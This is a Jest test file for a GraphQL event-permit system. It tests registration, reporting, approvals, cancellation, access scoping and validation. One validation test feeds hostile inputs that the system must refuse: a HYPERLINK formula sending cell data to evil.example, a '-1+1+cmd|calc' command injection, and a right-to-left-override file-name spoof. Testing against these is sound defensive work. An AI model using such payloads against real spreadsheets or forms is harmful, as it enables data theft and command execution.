import { countQueries, createTestApp, expectData, expectErrorCode, TestApp } from '../../../test/harness';
import { daysBetween, localDate } from '../../common/calendar';
import { ACTIVITY_FIELDS, activityInput, CREATE_ACTIVITY, dateFromNow, unitIdOf } from '../../../test/activity-fixtures';

const GET = /* GraphQL */ `query ($id: ID!) { activity(id: $id) { ${ACTIVITY_FIELDS} } }`;
const LIST = /* GraphQL */ `
  query ($filter: ActivityFilterInput, $page: PageInput) {
    activities(filter: $filter, page: $page) { total page pageSize items { id name status district daysUntilStart } }
  }
`;
const UPDATE = /* GraphQL */ `
  mutation ($id: ID!, $input: ActivityInput!, $v: Int) { updateActivity(id: $id, input: $input, expectedVersion: $v) { ${ACTIVITY_FIELDS} } }
`;
const REPORT = /* GraphQL */ `mutation ($id: ID!, $v: Int) { reportActivity(id: $id, expectedVersion: $v) { id status version } }`;
const APPROVE = /* GraphQL */ `
  mutation ($id: ID!, $approved: Boolean!, $note: String) { approveActivity(id: $id, approved: $approved, note: $note) { id status approvalNote returnReason } }
`;
const CANCEL = /* GraphQL */ `mutation ($id: ID!, $reason: String!) { cancelActivity(id: $id, reason: $reason) { id status cancelReason } }`;
const REQUEST = /* GraphQL */ `
  mutation ($id: ID!, $input: InstructionRequestInput!) {
    requestInstruction(id: $id, input: $input) { id status requestedAt instructionRequests { requestedByName assessment { scale staffing proposedCandidates permitTier suggestedGuards } answeredAt } }
  }
`;
const ASSESSMENT = { scale: '预计3000人，县级许可', staffing: '30人，按配比建议30人', proposedCandidates: 3 };

describe('activities: registration, 通报, 批示, cancellation', () => {
  let t: TestApp;
  let organizer1Unit: string;

  beforeAll(async () => {
    t = await createTestApp();
    organizer1Unit = await unitIdOf(t, 'organizer1');
  });
  afterAll(() => t?.close());

  async function create(username: string, overrides: Record<string, unknown> = {}, days = 40) {
    const client = await t.login(username);
    return expectData(await client.gql(CREATE_ACTIVITY, { input: activityInput(overrides, days) })).createActivity;
  }

  async function reported(overrides: Record<string, unknown> = {}) {
    const a = await create('dawa', { organizerUnitId: organizer1Unit, ...overrides });
    const dawa = await t.login('dawa');
    expectData(await dawa.gql(REPORT, { id: a.id }));
    return a;
  }

  /** Reported, and 保安管理支队 has 请示'd the leader. */
  async function requested(overrides: Record<string, unknown> = {}) {
    const a = await reported(overrides);
    const baoan = await t.login('baoan');
    expectData(await baoan.gql(REQUEST, { id: a.id, input: ASSESSMENT }));
    return a;
  }

  it('a district bureau registers in its own district: DRAFT, with the derived tier, suggestion and transition', async () => {
    const a = await create('dawa', { expectedAttendance: 8000, guardsRequired: 60 });
    expect(a.status).toBe('DRAFT');
    expect(a.code).toMatch(/^\d{4}-\d{4}$/);
    expect(a.permitTier).toBe('CITY');
    expect(a.suggestedGuards).toBe(80); // 8000 / 1000 × 10
    expect(a.warnings.map((w: { code: string }) => w.code)).toContain('FEW_GUARDS');
    expect(a.daysUntilStart).toBe(daysBetween(localDate(new Date()), localDate(new Date(activityInput().startsAt as string))));
    expect(a.effectiveAgeLimit).toBe(55);
    expect(a.transitions).toHaveLength(1);
    expect(a.transitions[0]).toMatchObject({ fromStatus: null, toStatus: 'DRAFT' });
    const [audit] = await t.sql(`SELECT action, summary FROM audit_log WHERE entity_id = $1`, [a.id]);
    expect(audit.action).toBe('CREATE');
  });

  it('derives the county tier, the late-application and below-1000 warnings (late filing is a warning, not a refusal)', async () => {
    const county = await create('dahuo', { district: 'PANSHAN', expectedAttendance: 3000 });
    expect(county.permitTier).toBe('COUNTY');
    const late = await create('dawa', { expectedAttendance: 800, guardsRequired: 10, organizerUnitId: organizer1Unit }, 10);
    expect(late.permitTier).toBe('NOT_COVERED');
    expect(late.warnings.map((w: { code: string }) => w.code)).toEqual(expect.arrayContaining(['LATE_APPLICATION', 'BELOW_THRESHOLD']));
    expect(late.warnings.find((w: { code: string }) => w.code === 'LATE_APPLICATION').message).toContain('20日');
    // Reported ten days ahead, the recommendation deadline (start − 15) has already passed.
    const dawa = await t.login('dawa');
    expectData(await dawa.gql(REPORT, { id: late.id }));
    const got = expectData(await dawa.gql(GET, { id: late.id })).activity;
    const stageLate = got.warnings.find((w: { code: string }) => w.code === 'STAGE_LATE');
    expect(stageLate.message).toMatch(/推荐候选（保安管理支队）应于\d{4}-\d{2}-\d{2}前完成/);
  });

  it('refuses a district bureau registering in another district (from the refused side), nothing stored', async () => {
    const panshan = await t.login('panshan');
    const before = await t.sql(`SELECT count(*)::int AS n FROM activities`);
    expectErrorCode(await panshan.gql(CREATE_ACTIVITY, { input: activityInput({ district: 'DAWA' }) }), 'FORBIDDEN');
    const after = await t.sql(`SELECT count(*)::int AS n FROM activities`);
    expect(after[0].n).toBe(before[0].n);
  });

  it('refuses roles that do not register activities', async () => {
    for (const username of ['organizer1', 'baoan', 'leader', 'office']) {
      const client = await t.login(username);
      expectErrorCode(await client.gql(CREATE_ACTIVITY, { input: activityInput() }), 'FORBIDDEN');
    }
  });

  it('names every bad field in Chinese', async () => {
    const dawa = await t.login('dawa');
    const input = activityInput({ contactPhone: '12345', name: '' });
    const err = expectErrorCode(await dawa.gql(CREATE_ACTIVITY, { input }), 'BAD_USER_INPUT');
    const fields = err.extensions!.fields!.map((f) => f.field);
    expect(fields).toEqual(expect.arrayContaining(['contactPhone', 'name']));
    const ends = activityInput();
    const swapped = { ...ends, endsAt: ends.startsAt, startsAt: ends.endsAt };
    const err2 = expectErrorCode(await dawa.gql(CREATE_ACTIVITY, { input: swapped }), 'BAD_USER_INPUT');
    expect(err2.extensions!.fields).toEqual([{ field: 'endsAt', message: '结束时间应晚于开始时间' }]);
    const err3 = expectErrorCode(
      await dawa.gql(CREATE_ACTIVITY, { input: activityInput({ organizerUnitId: await unitIdOf(t, 'baoan') }) }),
      'BAD_USER_INPUT',
    );
    expect(err3.extensions!.fields![0].field).toBe('organizerUnitId');
  });

  it('refuses names that begin as a spreadsheet formula, a name of only emoji or punctuation, a contact that is not a person, and invisible characters inside a name, naming the field; nothing stored (review 6 C-F1, C-F6, C-F7)', async () => {
    const dawa = await t.login('dawa');
    const before = (await t.sql(`SELECT count(*)::int AS n FROM activities`))[0].n;
    for (const [over, field, message] of [
      [{ name: '=HYPERLINK("http://evil.example/?"&A1,"点击查看")' }, 'name', '活动名称不能以“=”开头（表格软件会当作公式）'],
      [{ organizerName: '@SUM(1,2)' }, 'organizerName', '主办单位名称不能以“@”开头（表格软件会当作公式）'],
      [{ undertakerName: '-1+1+cmd|calc' }, 'undertakerName', '承办单位名称不能以“-”开头（表格软件会当作公式）'],
      [{ name: '🎉🎉🎉' }, 'name', '活动名称应含有汉字、字母或数字，不能只有符号或表情'],
      [{ name: '。。。' }, 'name', '活动名称应含有汉字、字母或数字，不能只有符号或表情'],
      [{ contactName: '12345' }, 'contactName', '联系人应为2–30个汉字或字母'],
      [{ contactName: '+张三' }, 'contactName', '联系人应为2–30个汉字或字母'],
      [{ name: '演\u200b唱会' }, 'name', '活动名称含有零宽字符、文字方向控制符等不可见的格式字符，请删除后重新输入'],
      [{ venue: '体育馆\u202egnp.exe' }, 'venue', '场所含有改变文字显示方向的控制字符（如U+202E），显示的文字与实际不符，请删除后重新输入'],
    ] as const) {
      const err = expectErrorCode(await dawa.gql(CREATE_ACTIVITY, { input: activityInput(over) }), 'BAD_USER_INPUT');
      expect(err.extensions!.fields).toEqual([{ field, message }]);
    }
    // a floor below ground is a place, not a formula
    expectData(await dawa.gql(CREATE_ACTIVITY, { input: activityInput({ venue: '-1层多功能厅' }) }));
    expect((await t.sql(`SELECT count(*)::int AS n FROM activities`))[0].n).toBe(before + 1);
  });

  it('refuses implausible figures, naming the field: a start years ahead, a years-long event, an application decades early, more guards than people; nothing stored', async () => {
    const dawa = await t.login('dawa');
    const before = (await t.sql(`SELECT count(*)::int AS n FROM activities`))[0].n;
    const base = activityInput();
    const far = activityInput({}, 3 * 365);
    const cases: [Record<string, unknown>, string, string][] = [
      [far, 'startsAt', '两年内'],
      [{ ...base, endsAt: new Date(Date.parse(base.startsAt as string) + 120 * 86_400_000).toISOString() }, 'endsAt', '不能超过90天'],
      // a minute after the start (a millisecond after is refused for its seconds first)
      [{ ...base, endsAt: new Date(Date.parse(base.startsAt as string) + 60_000).toISOString() }, 'endsAt', '不足30分钟'],
      [{ ...base, endsAt: new Date(Date.parse(base.startsAt as string) + 1).toISOString() }, 'endsAt', '精确到分钟，不含秒'],
      [{ ...base, appliedOn: '1950-10-01' }, 'appliedOn', '两年以上'],
      [{ ...base, expectedAttendance: 1000, guardsRequired: 20000 }, 'guardsRequired', '多于预计每场人数1000人'],
    ];
    for (const [input, field, says] of cases) {
      const err = expectErrorCode(await dawa.gql(CREATE_ACTIVITY, { input }), 'BAD_USER_INPUT');
      expect(err.extensions!.fields).toContainEqual({ field, message: expect.stringContaining(says) });
    }
    expect((await t.sql(`SELECT count(*)::int AS n FROM activities`))[0].n).toBe(before);
  });

  it('a double click on 通报: one report, the second told the step is already taken (review 5 B-F10)', async () => {
    const a = await create('dawa', { name: '重复通报测试活动', organizerUnitId: organizer1Unit });
    const dawa = await t.login('dawa');
    const answers = await Promise.all([dawa.gql(REPORT, { id: a.id }), dawa.gql(REPORT, { id: a.id })]);
    expect(answers.filter((r) => !r.errors)).toHaveLength(1);
    const second = expectErrorCode(answers.find((r) => r.errors)!, 'CONFLICT');
    expect(second.message).toBe('活动已是“已通报”状态（已由本人或他人办理），无需重复操作');
    expect((await t.sql(`SELECT count(*)::int AS n FROM activity_transitions WHERE activity_id = $1 AND to_status = 'REPORTED'`, [a.id]))[0].n).toBe(1);
  });

  it('reporting notifies 保安管理支队 and 领导小组办公室 at once, with a transition and an audit entry', async () => {
    const a = await create('dawa', { name: '通报测试活动', organizerUnitId: organizer1Unit });
    const dawa = await t.login('dawa');
    const res = expectData(await dawa.gql(REPORT, { id: a.id, v: a.version }));
    expect(res.reportActivity.status).toBe('REPORTED');
    const notified = await t.sql(
      `SELECT u.kind FROM notifications n JOIN units u ON u.id = n.unit_id WHERE n.activity_id = $1 ORDER BY u.kind`,
      [a.id],
    );
    expect(notified.map((r: { kind: string }) => r.kind)).toEqual(
      expect.arrayContaining(['LEADING_GROUP_OFFICE', 'SECURITY_DETACHMENT']),
    );
    const audit = await t.sql(`SELECT action FROM audit_log WHERE entity_id = $1 AND action = 'TRANSITION'`, [a.id]);
    expect(audit).toHaveLength(1);
    // Reporting again is an illegal transition.
    expectErrorCode(await dawa.gql(REPORT, { id: a.id }), 'CONFLICT');
  });

  it('an activity without an organizer unit cannot be reported (nobody could select or submit later)', async () => {
    const a = await create('dawa', { name: '无主办单位账号的活动' });
    const dawa = await t.login('dawa');
    const err = expectErrorCode(await dawa.gql(REPORT, { id: a.id }), 'BAD_USER_INPUT');
    expect(err.extensions!.fields![0].field).toBe('organizerUnitId');
    expect((await t.sql(`SELECT status FROM activities WHERE id = $1`, [a.id]))[0].status).toBe('DRAFT');
  });

  it('a stale version is refused with CONFLICT', async () => {
    const a = await create('dawa');
    const dawa = await t.login('dawa');
    expectErrorCode(await dawa.gql(REPORT, { id: a.id, v: a.version + 5 }), 'CONFLICT');
    expect((await t.sql(`SELECT status FROM activities WHERE id = $1`, [a.id]))[0].status).toBe('DRAFT');
  });

  it('only the leader approves; approval records the 批示 and notifies', async () => {
    const a = await requested();
    for (const username of ['baoan', 'office', 'dawa', 'organizer1']) {
      const client = await t.login(username);
      expectErrorCode(await client.gql(APPROVE, { id: a.id, approved: true, note: '同意' }), 'FORBIDDEN');
    }
    const leader = await t.login('leader');
    const res = expectData(await leader.gql(APPROVE, { id: a.id, approved: true, note: '同意，请支队抓紧推荐' }));
    expect(res.approveActivity).toMatchObject({ status: 'APPROVED', approvalNote: '同意，请支队抓紧推荐' });
    expectErrorCode(await leader.gql(APPROVE, { id: a.id, approved: true }), 'CONFLICT');
    const dawa = await t.login('dawa');
    const got = expectData(await dawa.gql(GET, { id: a.id })).activity;
    expect(got.transitions.map((x: { toStatus: string }) => x.toStatus)).toEqual(['DRAFT', 'REPORTED', 'APPROVED']);
    expect(got.transitions[2].comment).toContain('同意，请支队抓紧推荐');
    expect(got.transitions[2].actorName).toContain('领导小组');
  });

  it('请示 (seed step 一): the 通报 goes to the detachment and the office, not to the leader; only the detachment 请示s, once', async () => {
    const a = await reported({ name: '请示测试活动' });
    const notified = await t.sql(`SELECT DISTINCT u.kind FROM notifications n JOIN units u ON u.id = n.unit_id WHERE n.activity_id = $1`, [a.id]);
    expect(notified.map((r: { kind: string }) => r.kind)).not.toContain('LEADING_GROUP');
    // The leader cannot answer a 请示 that was never made.
    const leader = await t.login('leader');
    const early = expectErrorCode(await leader.gql(APPROVE, { id: a.id, approved: true }), 'CONFLICT');
    expect(early.message).toContain('尚未受理请示');
    for (const username of ['dawa', 'office', 'leader', 'organizer1']) {
      expectErrorCode(await (await t.login(username)).gql(REQUEST, { id: a.id, input: ASSESSMENT }), 'FORBIDDEN');
    }
    const baoan = await t.login('baoan');
    const few = expectErrorCode(await baoan.gql(REQUEST, { id: a.id, input: { ...ASSESSMENT, proposedCandidates: 1 } }), 'BAD_USER_INPUT');
    expect(few.extensions!.fields![0].field).toBe('proposedCandidates');
    const twice = await Promise.all([baoan.gql(REQUEST, { id: a.id, input: ASSESSMENT }), baoan.gql(REQUEST, { id: a.id, input: ASSESSMENT })]);
    expect(twice.filter((r) => !r.errors)).toHaveLength(1);
    expect(twice.filter((r) => r.errors?.[0]?.extensions?.code === 'CONFLICT')).toHaveLength(1);
    const [{ n }] = await t.sql(`SELECT count(*)::int AS n FROM instruction_requests WHERE activity_id = $1`, [a.id]);
    expect(n).toBe(1);
    const req = expectData(await leader.gql(GET.replace('transitions {', 'instructionRequests { requestedByName assessment { permitTier proposedCandidates } } transitions {'), { id: a.id })).activity;
    expect(req.instructionRequests[0]).toMatchObject({ requestedByName: '刘宝军（市公安局保安管理支队）', assessment: { permitTier: 'COUNTY', proposedCandidates: 3 } });
    const kinds = await t.sql(`SELECT DISTINCT u.kind FROM notifications n JOIN units u ON u.id = n.unit_id WHERE n.activity_id = $1 AND n.title LIKE '请示%'`, [a.id]);
    expect(kinds.map((r: { kind: string }) => r.kind).sort()).toEqual(['LEADING_GROUP', 'LEADING_GROUP_OFFICE']);
    // The 批示 answers it and names who gave it; the organizer does not see the police's 请示.
    const QUERY = `query ($id: ID!) { activity(id: $id) { approvedByName approvedAt instructionRequests { answeredByName approved answer } } }`;
    expectData(await leader.gql(APPROVE, { id: a.id, approved: true, note: '同意' }));
    const done = expectData(await baoan.gql(QUERY, { id: a.id })).activity;
    expect(done.approvedByName).toBe('刘溯（前置大型活动保安公司资质审核领导小组）');
    expect(done.instructionRequests).toEqual([{ answeredByName: '刘溯（前置大型活动保安公司资质审核领导小组）', approved: true, answer: '同意' }]);
    expect(expectData(await (await t.login('organizer1')).gql(QUERY, { id: a.id })).activity.instructionRequests).toEqual([]);
  });

  it('the calendar: no activity whose start has passed is registered or reported; the refusal names the time', async () => {
    const dawa = await t.login('dawa');
    t.clock.set('2031-05-01T10:00:00+08:00');
    try {
      const input = activityInput({ startsAt: '2031-05-01T09:00:00+08:00', endsAt: '2031-05-01T12:00:00+08:00', appliedOn: '2031-04-01' });
      const err = expectErrorCode(await dawa.gql(CREATE_ACTIVITY, { input }), 'BAD_USER_INPUT');
      expect(err.extensions!.fields).toEqual([{ field: 'startsAt', message: '开始时间2031-05-01 09:00已过，不能登记已开始的活动' }]);
      const ok = expectData(await dawa.gql(CREATE_ACTIVITY, { input: { ...input, startsAt: '2031-05-02T09:00:00+08:00', endsAt: '2031-05-02T12:00:00+08:00' } })).createActivity;
      // A day later the draft's start has passed: it cannot be reported any more.
      t.clock.set('2031-05-02T09:30:00+08:00');
      const late = expectErrorCode(await dawa.gql(REPORT, { id: ok.id }), 'CONFLICT');
      expect(late.message).toBe('活动已于2031-05-02 09:00开始，不能再通报；请核实活动时间');
      expect((await t.sql(`SELECT status FROM activities WHERE id = $1`, [ok.id]))[0].status).toBe('DRAFT');
    } finally {
      t.clock.reset();
    }
  });

  it('Art. 14: the 批示 is due 7 days after filing, tracked beside the other deadlines', async () => {
    const dawa = await t.login('dawa');
    t.clock.set('2031-06-01T10:00:00+08:00');
    try {
      const input = activityInput({ startsAt: '2031-07-10T09:00:00+08:00', endsAt: '2031-07-10T12:00:00+08:00', appliedOn: '2031-06-01', organizerUnitId: organizer1Unit });
      const a = expectData(await dawa.gql(CREATE_ACTIVITY, { input })).createActivity;
      expectData(await dawa.gql(REPORT, { id: a.id }));
      expectData(await (await t.login('baoan')).gql(REQUEST, { id: a.id, input: ASSESSMENT }));
      const Q = `query ($id: ID!) { activity(id: $id) { deadlines { lateStages next { stage dueOn rule responsibleUnitName late } } } }`;
      let d = expectData(await dawa.gql(Q, { id: a.id })).activity.deadlines;
      expect(d.next).toEqual({ stage: 'DECISION', dueOn: '2031-06-08', rule: '受理之日起7日内（条例第十四条）', responsibleUnitName: '领导小组', late: false });
      t.clock.set('2031-06-09T08:00:00+08:00');
      d = expectData(await dawa.gql(Q, { id: a.id })).activity.deadlines;
      expect(d.lateStages).toEqual(['DECISION']);
    } finally {
      t.clock.reset();
    }
  });

  it('sending back needs a reason, returns to DRAFT, notifies the reporter; the draft can be amended and reported again', async () => {
    const a = await requested({ name: '退回测试活动' });
    const leader = await t.login('leader');
    const noReason = expectErrorCode(await leader.gql(APPROVE, { id: a.id, approved: false }), 'BAD_USER_INPUT');
    expect(noReason.extensions!.fields![0].field).toBe('note');
    const res = expectData(await leader.gql(APPROVE, { id: a.id, approved: false, note: '应急预案不完整' }));
    expect(res.approveActivity).toMatchObject({ status: 'DRAFT', returnReason: '应急预案不完整' });
    const dawaUnit = await unitIdOf(t, 'dawa');
    const n = await t.sql(`SELECT title FROM notifications WHERE activity_id = $1 AND unit_id = $2`, [a.id, dawaUnit]);
    expect(n.map((r: { title: string }) => r.title)).toContain('活动被退回：退回测试活动');

    const dawa = await t.login('dawa');
    const updated = expectData(
      await dawa.gql(UPDATE, { id: a.id, input: activityInput({ name: '退回测试活动（修改）', organizerUnitId: organizer1Unit, plan: { emergencyPlan: '完整预案' } }) }),
    ).updateActivity;
    expect(updated.name).toBe('退回测试活动（修改）');
    expect(expectData(await dawa.gql(REPORT, { id: a.id })).reportActivity.status).toBe('REPORTED');
    // No longer a draft: editing is a conflict.
    expectErrorCode(await dawa.gql(UPDATE, { id: a.id, input: activityInput() }), 'CONFLICT');
  });

  it('cancelling needs a reason; a cancelled activity moves no further', async () => {
    const a = await reported();
    const baoan = await t.login('baoan');
    expectErrorCode(await baoan.gql(CANCEL, { id: a.id, reason: ' ' }), 'BAD_USER_INPUT');
    const organizer = await t.login('organizer1');
    expectErrorCode(await organizer.gql(CANCEL, { id: a.id, reason: '不办了' }), 'FORBIDDEN');
    const res = expectData(await baoan.gql(CANCEL, { id: a.id, reason: '主办方取消活动' }));
    expect(res.cancelActivity).toMatchObject({ status: 'CANCELLED', cancelReason: '主办方取消活动' });
    const leader = await t.login('leader');
    expectErrorCode(await leader.gql(APPROVE, { id: a.id, approved: true }), 'CONFLICT');
    expectErrorCode(await baoan.gql(CANCEL, { id: a.id, reason: '再次取消' }), 'CONFLICT');
  });

  it('two conflicting transitions at once: one wins, the other gets CONFLICT', async () => {
    const a = await reported();
    const leader = await t.login('leader');
    const baoan = await t.login('baoan');
    const dawa = await t.login('dawa');
    const results = await Promise.all([
      dawa.gql(CANCEL, { id: a.id, reason: '主办方撤回申请' }),
      baoan.gql(CANCEL, { id: a.id, reason: '场地变更' }),
    ]);
    const ok = results.filter((r) => !r.errors);
    const refused = results.filter((r) => r.errors);
    expect(ok).toHaveLength(1);
    expect(refused).toHaveLength(1);
    expect(refused[0].errors![0].extensions!.code).toBe('CONFLICT');
    const transitions = await t.sql(`SELECT to_status FROM activity_transitions WHERE activity_id = $1`, [a.id]);
    expect(transitions).toHaveLength(3); // DRAFT, REPORTED and the winner only

    const b = await requested();
    const twice = await Promise.all([
      leader.gql(APPROVE, { id: b.id, approved: true, note: '同意' }),
      leader.gql(APPROVE, { id: b.id, approved: false, note: '退回' }),
    ]);
    expect(twice.filter((r) => r.errors?.[0]?.extensions?.code === 'CONFLICT')).toHaveLength(1);
  });

  it('row scope: a district sees its own district; an organizer its own activities only', async () => {
    const a = await create('dawa', { organizerUnitId: organizer1Unit, name: '范围测试活动' });
    const panshan = await t.login('panshan');
    expectErrorCode(await panshan.gql(GET, { id: a.id }), 'NOT_FOUND');
    const list = expectData(await panshan.gql(LIST, { page: { pageSize: 500 } })).activities;
    expect(list.items.every((x: { district: string }) => x.district === 'PANSHAN')).toBe(true);
    expectErrorCode(await panshan.gql(REPORT, { id: a.id }), 'NOT_FOUND');

    const organizer2 = await t.login('organizer2');
    expectErrorCode(await organizer2.gql(GET, { id: a.id }), 'NOT_FOUND');
    const o2 = expectData(await organizer2.gql(LIST, { filter: { search: '范围测试' } })).activities;
    expect(o2.total).toBe(0);
    const organizer1 = await t.login('organizer1');
    expect(expectData(await organizer1.gql(GET, { id: a.id })).activity.name).toBe('范围测试活动');
  });

  it('lists with filters and pagination', async () => {
    const office = await t.login('office');
    const all = expectData(await office.gql(LIST, { page: { page: 1, pageSize: 2 } })).activities;
    expect(all.items).toHaveLength(2);
    expect(all.total).toBeGreaterThan(2);
    const drafts = expectData(await office.gql(LIST, { filter: { status: ['DRAFT'], district: 'PANSHAN' } })).activities;
    expect(drafts.items.every((x: { status: string; district: string }) => x.status === 'DRAFT' && x.district === 'PANSHAN')).toBe(true);
    const ranged = expectData(
      await office.gql(LIST, { filter: { from: `${dateFromNow(30)}T00:00:00Z`, to: `${dateFromNow(35)}T00:00:00Z` } }),
    ).activities;
    expect(ranged.items.every((x: { daysUntilStart: number }) => x.daysUntilStart >= 29 && x.daysUntilStart <= 35)).toBe(true);
  });

  it('costs the same number of SQL queries for 3 activities as for 15, with every nested field the pages read', async () => {
    const office = await t.login('office');
    const FULL = /* GraphQL */ `
      query ($page: PageInput) {
        activities(page: $page) {
          total
          items {
            ${ACTIVITY_FIELDS}
            organizerUnit { id name } reporterUnit { id name } selectedCompany { id name }
            candidates { companyId companyName rank score quote selected }
            deadlines { daysUntilStart lateStages stages { stage dueOn daysLeft done late } next { label daysLeft } }
          }
        }
      }
    `;
    const run = (pageSize: number) =>
      countQueries(async () => {
        const { activities } = expectData(await office.gql(FULL, { page: { pageSize } }));
        expect(activities.items).toHaveLength(pageSize);
      });
    const small = await run(3);
    const large = await run(15);
    expect(small).toBeGreaterThan(0);
    expect(large).toBe(small);
  });

  it('a page with its total, units, company and deadlines is two statements (the session with the settings, the page with its count); the total holds past the end and on a filtered page', async () => {
    const office = await t.login('office');
    const PAGE = `query ($page: PageInput, $filter: ActivityFilterInput) { activities(page: $page, filter: $filter) {
      total page items { id reporterUnit { name } selectedCompany { name } deadlines { next { label daysLeft } } } } }`;
    const statements = await countQueries(async () => expectData(await office.gql(PAGE, { page: { pageSize: 20 } })));
    expect(statements).toBe(2);
    const all = expectData(await office.gql(PAGE, { page: { pageSize: 500 } })).activities;
    expect(all.total).toBe(all.items.length);
    expect(expectData(await office.gql(PAGE, { page: { page: 999, pageSize: 20 } })).activities).toMatchObject({ items: [], total: all.total, page: 999 });
    const second = expectData(await office.gql(PAGE, { page: { page: 2, pageSize: 3 } })).activities;
    expect(second.total).toBe(all.total);
    expect(second.items.map((a: { id: string }) => a.id)).toEqual(all.items.slice(3, 6).map((a: { id: string }) => a.id));
    const none = expectData(await office.gql(PAGE, { filter: { search: '没有这样的活动' } })).activities;
    expect(none).toMatchObject({ items: [], total: 0 });
    // a district bureau's filtered page: the total counts its own district's rows with the filter, not the page
    const dawa = await t.login('dawa');
    const filter = { status: ['APPROVED', 'DRAFT', 'CLOSED'], search: '活动' };
    const [{ n }] = await t.sql(
      `SELECT count(*)::int AS n FROM activities WHERE district = 'DAWA' AND status IN ('APPROVED', 'DRAFT', 'CLOSED')
          AND (name ILIKE '%活动%' OR code ILIKE '%活动%' OR venue ILIKE '%活动%' OR organizer_name ILIKE '%活动%')`,
    );
    expect(n).toBeGreaterThan(1);
    const filtered = expectData(await dawa.gql(PAGE, { filter, page: { page: 1, pageSize: 1 } })).activities;
    expect(filtered).toMatchObject({ total: n, items: [expect.anything()] });
    expect(expectData(await dawa.gql(PAGE, { filter, page: { page: 99, pageSize: 1 } })).activities).toMatchObject({ total: n, items: [] });
  });

  it('a list names the same reporting unit and selected company as the activity read alone (the page joins them, one read loads them)', async () => {
    const office = await t.login('office');
    const NAMES = 'id reporterUnit { id name kind district active } selectedCompany { id name }';
    const { items } = expectData(await office.gql(`query { activities(page: { pageSize: 100 }) { items { ${NAMES} } } }`)).activities;
    expect(items.some((x: { selectedCompany: unknown }) => x.selectedCompany)).toBe(true);
    expect(items.some((x: { selectedCompany: unknown }) => !x.selectedCompany)).toBe(true);
    for (const listed of items) {
      const alone = expectData(await office.gql(`query ($id: ID!) { activity(id: $id) { ${NAMES} } }`, { id: listed.id })).activity;
      expect(listed).toEqual(alone);
    }
  });

  it('the demo data tells the story: every state up to COMPANY_SELECTED; company1 sees its assignment, company2 does not', async () => {
    const office = await t.login('office');
    const demo = expectData(
      await office.gql(`query { activities(filter: { search: "" }, page: { pageSize: 500 }) { items { id name status selectedCompanyId } } }`),
    ).activities.items;
    const statuses = new Set(demo.map((x: { status: string }) => x.status));
    for (const s of ['DRAFT', 'REPORTED', 'APPROVED', 'CANDIDATES_RECOMMENDED', 'COMPANY_SELECTED', 'CANCELLED']) expect(statuses).toContain(s);
    const marathon = demo.find((x: { name: string }) => x.name === '2026盘锦红海滩马拉松');
    expect(marathon.status).toBe('COMPANY_SELECTED');
    expect(marathon.selectedCompanyId).toBe(await unitIdOf(t, 'company1'));
    const company1 = await t.login('company1');
    const mine = expectData(await company1.gql(LIST, {})).activities.items.map((x: { id: string }) => x.id);
    expect(mine).toContain(marathon.id);
    const company2 = await t.login('company2');
    expectErrorCode(await company2.gql(GET, { id: marathon.id }), 'NOT_FOUND');
    expect(expectData(await company2.gql(LIST, {})).activities.items.map((x: { id: string }) => x.id)).not.toContain(marathon.id);
    const organizer1 = await t.login('organizer1');
    const got = expectData(await organizer1.gql(GET, { id: marathon.id })).activity;
    expect(got.transitions.map((x: { toStatus: string }) => x.toStatus)).toEqual([
      'DRAFT', 'REPORTED', 'APPROVED', 'CANDIDATES_RECOMMENDED', 'COMPANY_SELECTED',
    ]);
  });
});
